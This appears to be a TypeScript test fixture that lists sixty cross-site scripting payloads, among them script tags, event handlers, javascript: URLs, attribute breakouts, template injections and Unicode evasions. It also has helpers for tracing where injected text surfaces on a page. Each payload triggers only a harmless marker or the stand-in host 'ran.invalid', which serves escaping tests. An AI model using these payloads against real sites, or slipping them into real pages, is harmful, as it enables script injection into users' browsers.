/**
 * Sixty texts that run, load or leave an element behind wherever a text is printed without being escaped for its place. What comes of them
 * carries one of three marks: the function `ran`, the attribute `data-ran`, the host `ran.invalid`.
 */
export const hostileTexts: readonly string[] = [
  // Elements that run by themselves.
  `<script>ran(1)</script>`,
  `<ScRiPt data-ran>ran(2)</sCrIpT >`,
  `<script src=//ran.invalid/3.js></script>`,
  `<script/data-ran>ran(4)</script>`,
  `<scr<script>ipt>ran(5)</scr</script>ipt>`,
  `</script><script>ran(6)</script>`,
  `<script type="module">ran(7)</script>`,
  // Attributes of events.
  `<img src=x onerror=ran(8)>`,
  `<img src=//ran.invalid/9.png data-ran>`,
  `<body onload=ran(10)>`,
  `<details open ontoggle=ran(11)>`,
  `<input autofocus onfocus=ran(12)>`,
  `<video><source onerror=ran(13)></video>`,
  `<div style="animation-name:x" onanimationstart=ran(14) data-ran>`,
  `<marquee onstart=ran(15)>`,
  `<img/src="x"/onerror=ran\`16\`>`,
  // Other languages within the page.
  `<svg onload=ran(17)>`,
  `<svg><script>ran(18)</script></svg>`,
  `<svg><animate onbegin=ran(19) attributeName=x dur=1s data-ran></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='ran(20)'/>#x"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=ran(21)></style></mglyph></table></mtext></math>`,
  `<math href="javascript:ran(22)" data-ran>M</math>`,
  // Addresses.
  `javascript:ran(23)`,
  `JaVaScRiPt:ran(24)//`,
  `java&#x73;cript:ran(25)`,
  `data:text/html,<script>ran(26)</script>`,
  `<a href="javascript:ran(27)" data-ran>M</a>`,
  `<iframe src="javascript:ran(28)"></iframe>`,
  `<iframe srcdoc="<script>parent.ran(29)</script>" data-ran></iframe>`,
  `<form action="javascript:ran(30)" data-ran><button>M</button></form>`,
  `//ran.invalid/31`,
  // What changes the page around it.
  `<base href="//ran.invalid/32/">`,
  `<meta http-equiv="refresh" content="0;url=//ran.invalid/33">`,
  `<link rel=stylesheet href=//ran.invalid/34.css>`,
  `<style>@import "//ran.invalid/35.css"; body{background:url(//ran.invalid/35.png)}</style>`,
  `<object data="//ran.invalid/36"></object><embed src="//ran.invalid/36">`,
  `<button hx-get="//ran.invalid/37" hx-trigger="load" data-ran>M</button>`,
  `<div id="main" class="fold" data-session-ends-in="1" data-ran>`,
  // Out of an attribute, with every quotation mark.
  `" onmouseover="ran(39)" autofocus onfocus="ran(39)" data-ran="`,
  `' onmouseover='ran(40)' autofocus onfocus='ran(40)' data-ran='`,
  `\` onmouseover=ran(41) data-ran=\``,
  ` onfocus=ran(42) autofocus data-ran `,
  `"><img src=x onerror=ran(43) data-ran>`,
  `'><svg onload=ran(44) data-ran>`,
  `"/><script>ran(45)</script>`,
  `&quot; onfocus=ran(46) data-ran=&quot;`,
  // Out of what is no markup.
  `--><img src=x onerror=ran(47) data-ran><!--`,
  `]]><script>ran(48)</script><![CDATA[`,
  `</title><script>ran(49)</script>`,
  `</textarea><img src=x onerror=ran(50) data-ran>`,
  `</select></style></noscript><img src=x onerror=ran(51) data-ran>`,
  `*/ran(52)/*';ran(52);//";ran(52);//`,
  // Braces of templates.
  `{{{constructor.constructor "ran(53)"}}}`,
  `{{#with "s" as |x|}}{{x.constructor}}{{/with}}<%= ran(54) %>\${ran(54)}#{ran(54)}`,
  // Tricks of signs, and halves.
  `＜script＞ran(55)＜/script＞`,
  `<\u200bimg src=x onerror=ran(56)>\u2028<img\u00a0src=x\u3000onerror=ran(56) data-ran>`,
  `\u202e<img src=x onerror=ran(57) data-ran>\u202c`,
  `&lt;img src=x onerror=ran(58) data-ran&gt;&#60;img src=x onerror=ran(58) data-ran&#62;`,
  `<img src=x onerror="ran(59)" data-ran `,
  `<<img src=x onerror=ran(60) data-ran>//<`,
]

/** What tells on a page where a text came from. */
export const markOf = (place: string): string => `@@${place}@@`

/** All of them as one text, another one first for each place: where only the beginning counts, each has its turn. `mark` tells on a page where the text came from. */
export function hostileText(mark: string, turn: number): string {
  const at = turn % hostileTexts.length
  return [...hostileTexts.slice(at), ...hostileTexts.slice(0, at), markOf(mark)].join(' ')
}

/** Marks of places in what a page says. */
export const marksIn = (text: string): string[] => [...text.matchAll(/@@([a-z_.]+)@@/gu)].map(([, mark]) => mark ?? '')
